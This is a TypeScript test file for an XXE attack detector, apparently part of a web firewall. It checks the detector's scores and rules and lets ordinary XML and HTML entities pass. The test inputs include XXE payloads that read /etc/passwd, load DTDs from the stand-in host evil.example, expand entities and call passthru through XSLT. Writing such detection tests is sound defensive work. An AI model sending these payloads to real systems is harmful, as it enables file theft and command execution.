import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { viewsOf } from '../../decode/views.ts';
import { inputsFromBody } from '../../extract/body.ts';
import type { InputKind } from '../../types.ts';
import { xxeDetector } from './xxe.ts';

/** The strongest score the detector gives one value. */
function strongest(value: string, kind: InputKind = 'query', location = 'query.q'): number {
  return Math.max(0, ...xxeDetector.detect(viewsOf(value), kind, location).map((hit) => hit.score));
}

/** The rules the detector reports for one value. */
function rules(value: string, kind: InputKind = 'query', location = 'query.q'): string[] {
  return xxeDetector.detect(viewsOf(value), kind, location).map((hit) => hit.rule);
}

describe('xxe detector', () => {
  test('an XML document in a URL parameter or header is an attack, in a body value from paranoia 2', () => {
    const doc = '<?xml version="1.0"?><methodCall><methodName>demo</methodName></methodCall>';
    assert.equal(strongest(doc, 'query'), 5);
    assert.equal(strongest(doc, 'header', 'header.user-agent'), 5);
    // In a body value (a JSON string, a form field, a body of another type) it counts from paranoia 2.
    const field = xxeDetector.detect(viewsOf(doc), 'body', 'body.q');
    assert.deepEqual(
      field.map((h) => `${h.rule}@${h.paranoia}`),
      ['xxe.xml-document.field@2'],
    );
    assert.deepEqual(
      xxeDetector.detect(viewsOf('<![CDATA[<img src=x>]]>'), 'body', 'body.q').map((h) => h.rule),
      ['xxe.cdata-markup.field'],
    );
    assert.deepEqual(rules('see <![CDATA[ a ]]> in the spec', 'body', 'body.note'), []);
    assert.deepEqual(rules('the <?xml version="1.0"?> line goes first', 'body', 'body.note'), []);
    assert.equal(strongest('a <![CDATA[ b ]]>', 'query'), 3);
  });

  test('finds external entities, parameter entities and external DTDs', () => {
    assert.ok(
      rules('<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>').includes(
        'xxe.external-entity',
      ),
    );
    assert.equal(strongest('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'), 5);
    assert.equal(strongest('<!DOCTYPE note SYSTEM "http://evil.example/note.dtd">'), 5);
  });

  test('finds entity expansion, XInclude and file-reading XSLT', () => {
    assert.equal(strongest('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]>'), 5);
    assert.equal(
      strongest('<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></x>'),
      5,
    );
    assert.equal(
      strongest('<xsl:stylesheet><xsl:copy-of select="document(\'/etc/passwd\')"/></xsl:stylesheet>'),
      5,
    );
  });

  test('lets ordinary XML bodies through', () => {
    const body = '<?xml version="1.0"?><order id="1"><item>tea</item></order>';
    const inputs = inputsFromBody(body, 'application/xml');
    for (const input of inputs)
      assert.deepEqual(rules(input.value, input.kind, input.location), [], input.value);
  });

  test('a DOCTYPE with an internal subset, and DTD declarations on their own', () => {
    assert.equal(strongest('<!DOCTYPE note [<!ATTLIST note lang CDATA "en">]><note/>', 'body', 'body'), 5);
    assert.equal(strongest('<!doctype r ['), 5);
    assert.deepEqual(rules('<!ELEMENT note (#PCDATA)>'), ['xxe.dtd-declaration']);
    // A document type without a subset is the HTML5 doctype of any page.
    assert.deepEqual(rules('<!DOCTYPE html><p>hi</p>', 'body', 'body'), ['xxe.doctype']);
  });

  test('a CDATA section that carries markup where a word is expected', () => {
    assert.deepEqual(rules('<![CDATA[<img src=x>]]>'), ['xxe.cdata-markup']);
    assert.deepEqual(rules('<![CDATA[5 > 3]]>'), ['xxe.cdata']);
  });

  test('XSLT extension functions reach the host language wherever the call sits', () => {
    // An XML body hands the attribute value over on its own.
    assert.deepEqual(rules("php:function('passthru','ls -la')", 'body', 'body.xsl:value-of@select'), [
      'xxe.xslt-extension',
    ]);
    assert.equal(
      strongest(
        '<xsl:stylesheet xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime">',
        'body',
        'body',
      ),
      5,
    );
    // Prose about PHP functions, a Java class name.
    assert.deepEqual(rules('call php function(s) from a template'), []);
    assert.deepEqual(rules('java.lang.Runtime is a class'), []);
  });

  test('a stylesheet or stylesheet instruction counts from paranoia 2', () => {
    const found = (value: string) =>
      xxeDetector
        .detect(viewsOf(value), 'query', 'query.q')
        .filter((h) => h.rule === 'xxe.stylesheet')
        .map((h) => h.paranoia);
    assert.deepEqual(found('<?xml-stylesheet type="text/xsl" href="#"?>'), [2]);
    assert.deepEqual(
      found('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'),
      [2],
    );
    assert.deepEqual(found('<stylesheet xmlns="http://www.w3.org/TR/WD-xsl">'), [2]);
    assert.deepEqual(found('<link rel="stylesheet" href="/site.css">'), []);
  });
});

describe('xxe references and escaped code', () => {
  test('a reference to an entity nothing predefines, alone or in element content', () => {
    assert.deepEqual(rules('&foo;', 'body', 'body.q'), ['xxe.entity-reference']);
    assert.deepEqual(rules('<change-log> <text>&systemEntity;</text> </change-log>', 'body', 'body.q'), [
      'xxe.entity-reference',
    ]);
    assert.deepEqual(rules('&xxe;', 'header', 'header.user-agent'), ['xxe.entity-reference']);
    // Inside other text it counts from paranoia 2.
    const embedded = xxeDetector.detect(viewsOf('name: Jean &xxe; Dupont'), 'body', 'body.q');
    assert.deepEqual(
      embedded.map((h) => `${h.rule}@${h.paranoia}`),
      ['xxe.entity-reference.embedded@2'],
    );
  });

  test('HTML named references, query strings and code are not entity references', () => {
    for (const value of [
      '<p>Caf&eacute; &amp; bar&nbsp;&mdash; &hellip;</p>',
      '&nbsp;',
      '&copy; 2026 Example &reg;',
      '<b>5 &lt; 6 &amp;&amp; 7 &gt; 3</b>',
      'a=1&b=2&c=3',
      'flags&mask;',
      'x = a & b;',
      'R&D; budget',
      '&#39;quoted&#39;',
    ])
      assert.deepEqual(rules(value, 'body', 'body.q'), [], value);
  });

  test('a template or processing-instruction tag spelled in character references where a word is expected', () => {
    assert.deepEqual(rules('&lt;%= Tnn96 %&gt;', 'header', 'header.user-agent'), ['xxe.escaped-code-tag']);
    assert.deepEqual(rules('&lt;?Tnn96 ?&gt;', 'cookie', 'cookie.q'), ['xxe.escaped-code-tag']);
    assert.deepEqual(rules('&#60;% x %&#62;', 'query'), ['xxe.escaped-code-tag']);
    // The same in a body value may be escaped text (a post about ERB): from paranoia 2. Unescaped it
    // is not this rule's.
    assert.deepEqual(
      xxeDetector
        .detect(viewsOf('&lt;%= name %&gt;'), 'body', 'body.q')
        .map((h) => `${h.rule}@${h.paranoia}`),
      ['xxe.escaped-code-tag.field@2'],
    );
    assert.deepEqual(rules('<%= name %>', 'header', 'header.x'), []);
    // Escaped markup that is no code tag, and percent-encoding, which is how URLs carry `<`.
    assert.deepEqual(rules('&lt;b&gt;bold&lt;/b&gt;', 'query'), []);
    assert.deepEqual(rules('5 &lt; 6 ? yes : no', 'query'), []);
    assert.deepEqual(rules('%3C%25%3D x %25%3E', 'cookie', 'cookie.q'), []);
  });
});
